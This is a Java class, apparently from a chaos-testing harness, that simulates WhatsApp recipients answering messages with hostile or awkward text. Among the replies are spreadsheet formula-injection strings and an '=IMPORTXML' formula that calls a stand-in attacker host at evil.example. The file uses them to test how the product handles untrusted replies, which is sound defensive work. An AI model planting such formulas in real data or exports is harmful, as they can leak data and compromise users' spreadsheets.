package io.rowcast.workbench.chaos;

import io.rowcast.sandbox.client.WhatsAppControl;
import io.rowcast.sandbox.client.WhatsAppControl.Received;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.Objects;

/** Some of those who got the message, and answer it in their own dangerous words. No two say the same. */
final class People {
    /** One in so many answers. */
    private static final int ONE_IN = 6;
    /** So many messages later, which is a few seconds. */
    private static final int LATER = 150;

    private static final int MOST_AT_ONCE = 1000;

    private final WhatsAppControl whatsApp;
    private final Deque<Received> waiting = new ArrayDeque<>();
    private long seen;

    People(WhatsAppControl whatsApp) {
        this.whatsApp = whatsApp;
    }

    /** Those whose time has come answer; once nothing more is sent, everybody. */
    void answer() {
        var fresh = whatsApp.received(seen, MOST_AT_ONCE);
        for (Received received : fresh) {
            seen = received.seq();
            if (received.outcome().equals("accepted")) {
                waiting.add(received);
            }
        }
        while (waiting.size() > (fresh.isEmpty() ? 0 : LATER)) {
            answer(waiting.remove());
        }
    }

    private void answer(Received received) {
        String digits = Objects.requireNonNull(received.recipient());
        long number = Long.parseLong(digits);
        if (number % ONE_IN == 0) {
            whatsApp.reply(digits, words(number), Objects.requireNonNull(received.wamid()));
        }
    }

    private static String words(long number) {
        return switch ((int) (number / ONE_IN % 5)) {
            case 0 -> "=1+" + number;
            case 1 -> "+" + number;
            case 2 -> "@SUM(1," + number + ")";
            case 3 -> "=IMPORTXML(\"https://evil.example/" + number + "\",\"//a\")";
            default -> "2026-11-24 " + number + " \u05e9\u05dc\u05d5\u05dd";
        };
    }
}
